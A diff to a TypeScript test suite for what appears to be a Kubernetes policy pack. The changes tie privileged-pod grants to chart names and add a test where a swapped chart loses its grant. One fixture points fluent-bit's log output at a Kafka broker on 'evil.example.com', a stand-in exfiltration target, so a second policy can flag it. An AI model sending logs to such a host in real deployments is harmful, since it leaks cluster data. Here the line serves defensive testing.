@@ -220,14 +220,14 @@ describe("pod-privileges (T11)", () => {
 
   test("prod1 passes: flannel, fluent-bit and the CSI controller are the allowed platform workloads", () => {
     expect(messages(prod1, p())).toEqual([]);
-    expect(cfg("pod-privileges").privilegedWorkloads).toEqual(["kube-flannel/kube-flannel-ds", "logging/fluent-bit", "kube-system/csi-provisioner"]);
+    expect(cfg("pod-privileges").privilegedWorkloads).toEqual(["kube-flannel/kube-flannel-ds", "logging/fluent-bit@fluent-bit", "kube-system/csi-provisioner"]);
     // Node-exporter's host access is on by default in kube-prometheus-stack 87.12.5 (prometheus-node-exporter
     // 4.55.1 values.yaml:382-397), the CSI node plugin's whatever the values: granted path by path.
     expect(cfg("pod-privileges").privilegedChartValues).toEqual([
-      "monitoring/kube-prometheus-stack:prometheus-node-exporter.hostNetwork",
-      "monitoring/kube-prometheus-stack:prometheus-node-exporter.hostPID",
-      "monitoring/kube-prometheus-stack:prometheus-node-exporter.hostRootFsMount.enabled",
-      "kube-system/alibaba-cloud-csi-driver:plugin.enabled",
+      "monitoring/kube-prometheus-stack@kube-prometheus-stack:prometheus-node-exporter.hostNetwork",
+      "monitoring/kube-prometheus-stack@kube-prometheus-stack:prometheus-node-exporter.hostPID",
+      "monitoring/kube-prometheus-stack@kube-prometheus-stack:prometheus-node-exporter.hostRootFsMount.enabled",
+      "kube-system/alibaba-cloud-csi-driver@alibaba-cloud-csi-driver:plugin.enabled",
     ]);
   });
 
@@ -235,8 +235,8 @@ describe("pod-privileges (T11)", () => {
     const found = messages(prod1, podPrivileges("mandatory", { ...cfg("pod-privileges"), privilegedChartValues: [] }));
     expect(found).toEqual(
       [
-        "prod1-disk-csi-driver: kube-system/alibaba-cloud-csi-driver asks for the node (plugin.enabled (chart default): a privileged node plugin with hostNetwork, hostPID, hostIPC) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
-        "prod1-monitoring-kube-prometheus-stack: monitoring/kube-prometheus-stack asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
+        "prod1-disk-csi-driver: kube-system/alibaba-cloud-csi-driver asks for the node (plugin.enabled (chart default): a privileged node plugin with hostNetwork, hostPID, hostIPC) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
+        "prod1-monitoring-kube-prometheus-stack: monitoring/kube-prometheus-stack asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
       ].map((m) => m.replace("FIX", FIX)),
     );
   });
@@ -266,7 +266,7 @@ describe("pod-privileges (T11)", () => {
           "template.spec.initContainers[0].securityContext.appArmorProfile.type=Unconfined",
           "template.spec.securityContext.seccompProfile.type=Unconfined",
         ].join(", ") +
-        `) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
+        `) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
     ]);
   });
 
@@ -292,7 +292,7 @@ describe("pod-privileges (T11)", () => {
           "template.spec.securityContext.seLinuxOptions.type=spc_t",
           "template.spec.securityContext.sysctls[1]=kernel.core_pattern",
         ].join(", ") +
-        `) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
+        `) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
     ]);
   });
 
@@ -347,7 +347,7 @@ describe("pod-privileges (T11)", () => {
     expect(found).toHaveLength(2);
     const volumeIndex = podSpec(bad, ORDER).volumes.length - 1;
     expect(found[1]).toBe(
-      `${ORDER}: commerce/order-service asks for the node (template.spec.containers[0].securityContext.privileged, template.spec.hostNetwork, template.spec.volumes[${volumeIndex}].hostPath) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (pod-privileges.privilegedWorkloads)`,
+      `${ORDER}: commerce/order-service asks for the node (template.spec.containers[0].securityContext.privileged, template.spec.hostNetwork, template.spec.volumes[${volumeIndex}].hostPath) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (pod-privileges.privilegedWorkloads)`,
     );
     expect(found[0]).toMatch(
       /^prod1-monitoring-kube-prometheus-stack: monitoring\/kube-prometheus-stack asks for the node \(prometheus\.prometheusSpec\.hostPID\)/,
@@ -389,7 +389,7 @@ describe("pod-privileges (T11): charts by URL, charts never reviewed, values the
       urn: `urn:pulumi:prod1::platform::kubernetes:helm.sh/v3:Release::${name}`,
       props: { namespace: "commerce", name, values: {}, ...props },
     });
-  const NOT_LISTED = `but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
+  const NOT_LISTED = `but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
 
   test("the charts outside CHART_PRIVILEGE_VALUES that prod1 installs are reviewed by name@version in the pack config", () => {
     expect(cfg("pod-privileges").reviewedCharts).toEqual(["kubelet-csr-approver@1.2.14", "ks-core@1.1.4", "skywalking-helm@4.7.0"]);
@@ -456,6 +456,26 @@ describe("pod-privileges (T11): charts by URL, charts never reviewed, values the
     expect(messages(second({ plugin: { enabled: false } }), p())).toEqual([]);
   });
 
+  test("a grant names the chart: logging/fluent-bit installing kube-prometheus-stack instead loses fluent-bit's grant", () => {
+    const swapped = mutated((s) => {
+      const fb = any(one(s, "prod1-logging-fluent-bit").props);
+      Object.assign(fb, { chart: "kube-prometheus-stack", version: "87.12.5", values: {} });
+    });
+    expect(messages(swapped, p())).toEqual([
+      `prod1-logging-fluent-bit: logging/fluent-bit asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) ${NOT_LISTED}`,
+    ]);
+    // fluent-bit named by its archive URL is still fluent-bit: granted, and its outputs still judged (T4).
+    const byUrl = mutated((s) => {
+      const fb = any(one(s, "prod1-logging-fluent-bit").props);
+      fb.chart = "https://fluent.github.io/helm-charts/fluent-bit-0.57.9.tgz";
+      fb.values.config.outputs = "[OUTPUT]\n    Name kafka\n    Brokers evil.example.com:9093\n";
+    });
+    expect(messages(byUrl, p())).toEqual([]);
+    expect(messages(byUrl, credentialEndpoints("mandatory", cfg("credential-endpoints")))).toEqual([
+      expect.stringMatching(/^prod1-logging-fluent-bit: fluent-bit output evil\.example\.com:9093 is not an allowed log store/),
+    ]);
+  });
+
   test("valueYamlFiles or a post-renderer is refused unless the release is granted in unreadValuesReleases", () => {
     const bad = mutated((s) => {
       any(one(s, "prod1-ingress-controller").props).valueYamlFiles = [{ path: "./values-override.yaml" }];
@@ -488,7 +508,7 @@ describe("pod-privileges (T11): every kind that carries pods, and PersistentVolu
   const p = () => podPrivileges("mandatory", cfg("pod-privileges"));
   const add = (s: PolicyStack, type: string, name: string, props: Record<string, unknown>) =>
     s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { metadata: { name, namespace: "commerce" }, ...props } });
-  const NOT_LISTED = `but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
+  const NOT_LISTED = `but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
   const pod = (extra: Record<string, unknown>) => ({ containers: [{ name: "c", image: "busybox" }], ...extra });
 
   test("a hostPath or local PersistentVolume is refused (a claim in any namespace mounts it); a CSI one passes; granted by PersistentVolume/<name>", () => {
